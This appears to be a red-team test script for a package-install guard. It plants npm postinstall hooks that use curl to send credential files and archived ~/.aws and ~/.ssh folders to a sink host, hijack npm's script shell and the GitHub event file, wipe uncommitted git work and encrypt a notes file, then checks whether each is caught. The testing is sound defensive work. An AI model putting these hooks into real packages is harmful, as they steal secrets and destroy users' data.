#!/bin/bash
# R56: thefts, plants and wipes by means that no other scenario uses: each package does one thing,
# with programs that everybody has.
set -u
cd "$(dirname "$0")/../.." || exit 2
. tests/redteam/lib.sh

rt_begin R56 'unusual means'
RT_SCRIPTED=() RT_HONEST=(ms)
RT_ENV=(CREDENTIALS_DIRECTORY="$LAB/handed" GITHUB_EVENT_PATH="$LAB/event.json")
rt_setup() {
	mkdir -p "$LAB/handed" && echo "token $(printf %040d 7)" >"$LAB/handed/token"
	echo '{"action":"opened"}' >"$LAB/event.json"
	chown -R "$LAB_UID:$LAB_GID" "$LAB/handed" "$LAB/event.json"
	rt_canary handed/token "$(printf %040d 7)"
	lab_as_user "$RT_PROJECT" sh -c 'git init -q && echo 1 >work && git add . &&
		git commit -qm start && echo 2 >unsaved && mkdir -p ~/notes && echo x >~/notes/a'
}
does() { # NAME SCRIPT
	rt_package "$1" 1.0.0 - postinstall "own=\$PWD; cd \"\$INIT_CWD\" && $2"
}
# What a service manager hands to the runner's service.
does handed-x "exec curl -s --data-binary @\$CREDENTIALS_DIRECTORY/token http://$RT_SINK/h"
# A directory is archived whole; the shell opens no secret by name.
does tar-x "tar cf - -C ~ .aws .ssh 2>/dev/null | curl -s --data-binary @- http://$RT_SINK/t"
# The manager's own program writes where the next run reads.
does config-x 'exec npm config set script-shell "$own/sh" --location=user'
does scripts-x 'exec npm pkg set scripts.prepare="node node_modules/scripts-x/x.js"'
# What the next step takes for the event that started the job.
does event-x 'echo "{\"action\":\"closed\"}" >$GITHUB_EVENT_PATH'
# Git itself throws away what is not committed, and what only it has.
does clean-x 'exec git clean -fdxq -e node_modules -e package.json -e package-lock.json'
does prune-x 'git reflog expire --expire=now --all; exec git gc -q --prune=now'
# A document is encrypted where it lies.
does crypt-x 'cd ~/notes && openssl enc -aes-256-cbc -pass pass:x -pbkdf2 -in a -out a.enc &&
	exec mv -f a.enc a'
names=$(printf '%s\n' "${RT_ATTACKERS[@]%% *}" | grep -v crypt-x)

rt_control
rt_leaked handed/token .aws/credentials .ssh/id_rsa
rt_ok 'npm runs another shell' grep -q script-shell "$RT_HOME/.npmrc"
rt_ok 'the event is another one' grep -q closed "$LAB/event.json"
rt_ok 'what was not committed is gone' test ! -e "$RT_PROJECT/unsaved"
rt_ok 'the document is not readable' test "$(head -c 7 "$RT_HOME/notes/a")" = Salted_

if rt_guarded; then
	rt_is 'exit status' "$RT_STATUS" 86
	while read -r name; do rt_accused "$name" .; done <<<"$names"
	rt_withheld crypt-x home-hidden '^home-(create|destroy)$'
	rt_no_innocent_accused
	rt_silent
fi
rt_end
